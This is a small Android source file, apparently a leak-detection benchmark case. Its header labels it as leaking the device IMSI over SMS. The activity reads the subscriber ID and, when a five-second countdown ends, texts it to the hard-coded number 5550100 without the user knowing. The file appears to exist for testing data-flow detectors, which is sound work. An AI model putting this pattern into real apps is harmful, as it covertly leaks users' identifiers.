// about       The count-down runs to its end, and onFinish sends.
// leak        DEV_IMSI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.os.CountDownTimer;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  private CountDownTimer timer;

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    final String id = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSubscriberId();
    timer = new CountDownTimer(5000, 1000) {
      @Override
      public void onTick(long left) {
        setTitle(left + " ms");
      }

      @Override
      public void onFinish() {
        SmsManager.getDefault().sendTextMessage("5550100", null, id, null, null);
      }
    };
    timer.start();
    // Its steps are messages to this very thread.
  }
}
